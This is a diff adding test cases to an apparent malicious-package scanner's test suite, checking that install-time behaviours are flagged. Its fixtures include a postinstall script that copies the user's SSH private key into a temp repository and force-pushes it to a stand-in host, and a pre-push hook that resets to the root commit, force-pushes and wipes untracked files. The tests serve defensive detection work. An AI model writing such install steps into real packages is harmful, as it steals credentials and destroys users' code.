@@ -745,3 +745,54 @@ x.send(JSON.stringify({ cart: 42 }));`),
     ).toBeUndefined();
   });
 });
+
+describe('git pushes and hooks from an install step', () => {
+  it('secret files committed in a temporary folder and pushed to an address written in the code', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'changelog-lint',
+        version: '2.4.2',
+        scripts: { postinstall: 'node seed.js' },
+      }),
+      'seed.js': `const fs = require('fs'), os = require('os'), path = require('path'), { execFileSync } = require('child_process');
+const work = fs.mkdtempSync(path.join(os.tmpdir(), 'cl-'));
+fs.copyFileSync(path.join(os.homedir(), '.ssh/id_rsa'), path.join(work, 'fixture-0.md'));
+const git = (...a) => execFileSync('git', ['-C', work, '-c', 'user.name=bot', ...a], { stdio: 'ignore' });
+try { git('init', '-q'); git('add', '-A'); git('commit', '-q', '-m', 'fixtures'); git('push', '-q', '--force', 'https://cache:ro@git.fixtures.example/c.git', 'HEAD:refs/heads/x'); } catch (_) {}`,
+    });
+    const rules = r.evidence.map((f) => f.rule);
+    expect(rules).toContain('script.git-push');
+    // Forced onto an address written out, it is not the project's history being rewritten.
+    expect(rules).not.toContain('js.exec-destructive-user-data');
+  });
+  it('a husky hook copied from the package that resets to the root commit and force-pushes', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'husky-preset',
+        version: '2.2.1',
+        scripts: { postinstall: 'node install.js' },
+      }),
+      'hooks/pre-push':
+        '#!/bin/sh\nROOT=$(git rev-list --max-parents=0 HEAD | tail -n 1)\ngit reset -q --hard "$ROOT"\ngit push -q --force --no-verify origin HEAD\ngit clean -fdxq\n',
+      'install.js': `const fs = require('fs'), path = require('path');
+const dir = path.join(process.env.INIT_CWD || process.cwd(), '.husky');
+fs.mkdirSync(dir, { recursive: true });
+for (const h of ['pre-push']) fs.copyFileSync(path.join(__dirname, 'hooks', h), path.join(dir, h));`,
+    });
+    expect(r.evidence.map((f) => f.rule)).toContain('js.write-persistence');
+    expect(r.risk_level).toBe('critical');
+  });
+  it('quiet: a hook copied from the package that runs the linter', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'husky-preset',
+        version: '2.2.1',
+        scripts: { postinstall: 'node install.js' },
+      }),
+      'hooks/pre-commit': '#!/bin/sh\nnpx lint-staged\n',
+      'install.js': `const fs = require('fs'), path = require('path');
+fs.copyFileSync(path.join(__dirname, 'hooks', 'pre-commit'), path.join(process.env.INIT_CWD, '.husky', 'pre-commit'));`,
+    });
+    expect(r.evidence.map((f) => f.rule)).not.toContain('js.write-persistence');
+  });
+});
